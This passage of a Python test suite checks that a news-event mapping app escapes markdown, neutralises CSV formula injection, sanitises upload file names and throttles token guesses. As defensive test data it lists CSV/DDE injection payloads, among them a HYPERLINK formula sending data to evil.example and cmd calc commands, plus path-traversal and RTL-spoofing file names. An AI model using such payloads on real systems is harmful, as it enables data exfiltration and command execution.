        f["id"]: f["properties"] for f in json.loads(layer_to_geojson(layers.events))["features"]
    }
    assert events["ev-title"]["title"] == payload
    assert events["ev-outlet"]["outlet"] == payload
    assert events["ev-url"]["url"] == payload
    assert events["ev-place"]["place_names"] == [payload]


FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Open the report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_never_start_a_formula(formula: str) -> None:
    frame = gpd.GeoDataFrame(
        [
            _event_record(
                "ev-1",
                title=formula,
                sentence=formula,
                place_names=[formula, "Sea of Japan"],
                actors=["PRK"],
            )
        ],
        geometry="geometry",
        crs="EPSG:4326",
    )
    rows = list(csv.DictReader(io.StringIO(layer_to_csv(frame), newline="")))
    assert len(rows) == 1
    for name in ("title", "sentence"):
        assert rows[0][name] == "'" + formula
    assert rows[0]["place_names"] == "'" + formula + "|Sea of Japan"
    for value in rows[0].values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows[0]["lon"] == "134.0"  # numbers stay numbers (a negative one would too)


def test_a_line_break_in_a_csv_cell_cannot_forge_a_row() -> None:
    record = _event_record("ev-1", sentence="Ships sailed.\rev-forged,art-9,missile_launch")
    frame = gpd.GeoDataFrame([record], geometry="geometry", crs="EPSG:4326")
    rows = list(csv.DictReader(io.StringIO(layer_to_csv(frame), newline="")))
    assert [row["id"] for row in rows] == ["ev-1"]


_MARKDOWN_SPECIAL = re.compile(r"(?<!\\)[<>\[\]()`*_#|~$!]")


def _unescape(markdown: str) -> str:
    return re.sub(r"\\(.)", r"\1", markdown, flags=re.DOTALL)


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_stay_text_in_the_side_panel(payload: str, field: str) -> None:
    record = _hostile_event(field, payload)
    details = describe(Selection("ev-1", "events", record), None)  # type: ignore[arg-type]
    if field == "url":
        expected = payload if re.match(r"https?://", payload) else None
        assert details.url == expected
        return
    assert details.url == "https://example.org/news/ships"
    escaped = escape_markdown(payload)
    shown = {"title": details.caption, "outlet": details.caption, "sentence": details.quote}
    for text in (shown.get(field), details.lines[1] if field == "place" else None):
        if text is not None:
            assert escaped in text
            assert payload in _unescape(text)
            if _MARKDOWN_SPECIAL.search(payload):
                assert payload not in text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_side_panel_titles_of_places_zones_and_offices_are_escaped(payload: str) -> None:
    for selection in (
        Selection("ne:sea:sea-of-japan", "places", _place_record(payload)),
        Selection("of-1", "offices", _office_record(payload)),
    ):
        details = describe(selection, None)  # type: ignore[arg-type]
        assert escape_markdown(payload) in details.title
        assert not _MARKDOWN_SPECIAL.search(details.title.replace(escape_markdown(payload), ""))


@settings(max_examples=200, deadline=None)
@given(st.text(ANY_CHAR, max_size=80))
def test_escape_markdown_leaves_no_special_character_and_loses_nothing(text: str) -> None:
    escaped = escape_markdown(text)
    assert not _MARKDOWN_SPECIAL.search(escaped.replace("\\\\", ""))
    assert _unescape(escaped) == text


# ---------------------------------------------------------------------------------------------
# uploads

STORY = b"Chinese and Russian warships held joint patrols in the East China Sea on Tuesday.\n"


def _shown_safely(name: str) -> bool:
    printable = all(
        unicodedata.category(ch)[0] not in "CZ" or ch == " " for ch in name
    )  # no control, format (RTL override), separator or surrogate characters
    return printable and "/" not in name and "\\" not in name and 0 < len(name) <= 80


@pytest.mark.parametrize(
    ("raw", "shown", "accepted"),
    [
        ("../../x.md", "x.md", True),
        ("..\\..\\windows\\system32\\x.md", "x.md", True),
        ("C:\\evil.md", "evil.md", True),
        ("/etc/passwd.md", "passwd.md", True),
        ("x.md\x00.exe", "x.md.exe", False),
        ("\u202egpj.md", "gpj.md", True),
        ("evil\u202egpj.exe", "evilgpj.exe", False),  # shows as "evilexe.jpg" unless cleaned
        ("..", "..", False),
        ("", "unnamed file", False),
        ("\x00", "unnamed file", False),
        ("report.MD", "report.MD", True),
        ("story.markdown", "story.markdown", False),
        ("x.pdf", "x.pdf", False),
        (b"bytes.md", "b'bytes.md'", False),
    ],
)
def test_upload_names_are_shown_safely_and_never_used_as_paths(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, raw: object, shown: str, accepted: bool
) -> None:
    monkeypatch.chdir(tmp_path)

    def no_files(*args: Any, **kwargs: Any) -> Any:
        message = f"an upload opened a file: {args!r}"
        raise AssertionError(message)

    monkeypatch.setattr(builtins, "open", no_files)
    monkeypatch.setattr(Path, "open", no_files)
    articles, problems = articles_from_files([(raw, STORY)])
    monkeypatch.undo()
    assert list(tmp_path.iterdir()) == []
    assert safe_name(raw) == shown
    assert _shown_safely(shown)
    if accepted:
        assert problems == []
        assert [a.source for a in articles] == [f"upload:{shown}"]
    else:
        assert articles == []
        assert problems == [UploadProblem(shown, problems[0].reason)]
        assert "not an article file" in problems[0].reason


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.text(ANY_CHAR, max_size=120), st.binary(max_size=20)))
def test_any_upload_name_is_shown_safely(raw: str | bytes) -> None:
    assert _shown_safely(safe_name(raw))


@pytest.mark.parametrize("suffix", UPLOAD_SUFFIXES)
def test_long_upload_names_keep_their_suffix(suffix: str) -> None:
    """Regression: names over 80 characters were cut before the suffix was read, so a long
    ``….md`` name was refused as "not an article file"."""
    name = "2023-05-10-" + "joint-naval-patrols-in-the-east-china-sea-" * 3 + "report" + suffix
    data = b"<html><body><article><p>" + STORY * 3 + b"</p></article></body></html>"
    articles, problems = articles_from_files([(name, data)])
    assert problems == []
    shown = safe_name(name)
    assert len(shown) <= 80
    assert "…" in shown
    assert shown.endswith(suffix)
    assert articles[0].source == f"upload:{shown}"
    assert (articles[0].body_offset is None) == suffix.startswith(".htm")


def test_upload_size_limits() -> None:
    at_limit = (STORY * (MAX_UPLOAD_BYTES // len(STORY) + 1))[:MAX_UPLOAD_BYTES]
    over = at_limit + b"x"
    fifty = b" " * (50 * MIB)
    articles, problems = articles_from_files(
        [("at-limit.txt", at_limit), ("over.txt", over), ("fifty.md", fifty)]
    )
    assert [a.source for a in articles] == ["upload:at-limit.txt"]
    limit = f"over the {MAX_UPLOAD_BYTES // MIB} MB limit"
    assert [(p.name, limit in p.reason) for p in problems] == [
        ("over.txt", True),
        ("fifty.md", True),
    ]


def test_at_most_max_files_uploads_are_read() -> None:
    files = [(f"f{i}.txt", STORY + str(i).encode()) for i in range(MAX_FILES + 2)]
    articles, problems = articles_from_files(files)
    assert len(articles) == MAX_FILES
    assert [p.name for p in problems] == [f"f{MAX_FILES}.txt", f"f{MAX_FILES + 1}.txt"]
    assert all(f"more than {MAX_FILES} files" in p.reason for p in problems)


def test_wrong_type_reason_names_the_allowed_types() -> None:
    _, problems = articles_from_files([("photo.jpg", b"\xff\xd8\xff")])
    assert all(suffix in problems[0].reason for suffix in UPLOAD_SUFFIXES)


@pytest.mark.parametrize("path", CORPUS, ids=lambda p: p.name)
def test_uploading_a_corpus_file_gives_the_same_outcome_as_reading_it(path: Path) -> None:
    articles, problems = articles_from_files([(path.name, path.read_bytes())])
    expected = _outcome(read_article, path)
    if isinstance(expected, ArticleError):
        assert articles == []
        assert [p.reason for p in problems] == [expected.reason]
    else:
        assert problems == []
        assert (articles[0].id, articles[0].text) == (expected.id, expected.text)


def test_utf16_without_bom_is_refused_not_misread() -> None:
    data = "Talks in Geneva.".encode("utf-16-le")
    assert codecs.BOM_UTF16_LE not in data
    with pytest.raises(ArticleError, match="binary file"):
        article_from_bytes(data, source="x.txt")


def test_an_article_over_the_article_limit_is_refused_unread() -> None:
    with pytest.raises(ArticleError, match="over the 20 MB limit"):
        article_from_bytes(b"x" * (MAX_ARTICLE_BYTES + 1), source="big.txt")


# ---------------------------------------------------------------------------------------------
# a store that cannot be written, seen from the upload panel

_UPLOAD = (
    "drills.md",
    b"---\ntitle: Drills\npublished: 2024-05-10\n---\n"
    b"Russian warships held drills in the Sea of Japan on Friday, the ministry in Tokyo said.\n",
)


def _failing_write(code: int) -> Any:
    def write(path: Path, data: bytes) -> None:
        raise OSError(code, os.strerror(code), str(path))

    return write


@pytest.mark.parametrize(
    ("code", "says"),
    [(errno.ENOSPC, "no space left"), (errno.EROFS, "read-only"), (errno.EACCES, "permission")],
)
def test_an_upload_into_a_store_that_cannot_be_written_is_one_line(
    tmp_path: Path,
    finder: PlaceFinder,
    monkeypatch: pytest.MonkeyPatch,
    code: int,
    says: str,
) -> None:
    monkeypatch.setattr(store_module, "write_atomic", _failing_write(code))
    report, problems = add_to_store([_UPLOAD], "", tmp_path / "store", finder=finder)
    assert report.articles == 0
    (problem,) = problems
    assert problem.name == "the data store"
    assert says in problem.reason
    assert _one_line(problem.reason)
    assert Store(tmp_path / "store").current_version() is None


def test_an_upload_while_another_writer_holds_the_store_is_one_line(
    tmp_path: Path, finder: PlaceFinder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(uploads, "UPLOAD_LOCK_TIMEOUT", 0)
    holder = Store.open(tmp_path / "store")
    with holder.lock():
        report, problems = add_to_store([_UPLOAD], "", tmp_path / "store", finder=finder)
    assert report.articles == 0
    assert [p.reason for p in problems] == [
        "another editor is adding articles right now; nothing was added, try again soon"
    ]
    report, problems = add_to_store([_UPLOAD], "", tmp_path / "store", finder=finder)
    assert (report.articles, problems) == (1, [])


def test_streamlit_refuses_uploads_over_our_limit_before_buffering_them() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] * 1024 * 1024 == MAX_UPLOAD_BYTES


class _Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_wrong_editor_tokens_are_throttled_per_address() -> None:
    clock = _Clock()
    throttle = uploads.GuessThrottle(clock)
    for guess in range(5):
        assert not may_edit(f"guess-{guess}", "s3cret", who="10.0.0.9", throttle=throttle)
    assert not may_edit("s3cret", "s3cret", who="10.0.0.9", throttle=throttle)  # must wait
    assert throttle.wait("10.0.0.9") == 2.0
    assert may_edit("s3cret", "s3cret", who="10.0.0.7", throttle=throttle)  # another address
    clock.now += 2.0
    assert may_edit("s3cret", "s3cret", who="10.0.0.9", throttle=throttle)
    assert throttle.wait("10.0.0.9") == 0.0  # a right token clears the address


def test_fifty_quick_guesses_get_only_a_few_tries() -> None:
    clock = _Clock()
    throttle = uploads.GuessThrottle(clock)
    tried = 0
    for guess in range(50):  # one guess every 0.35 s, as a script would
        clock.now += 0.35
        if throttle.wait("10.0.0.9") == 0:
            tried += 1
        assert not may_edit(f"guess-{guess}", "s3cret", who="10.0.0.9", throttle=throttle)
    assert tried <= 8
    assert throttle.wait("10.0.0.9") > 8


def test_the_same_wrong_token_on_every_rerun_counts_once() -> None:
    throttle = uploads.GuessThrottle(_Clock())
    for _ in range(20):
        assert not may_edit("typo", "s3cret", who="local", throttle=throttle)
    assert throttle.wait("local") == 0.0
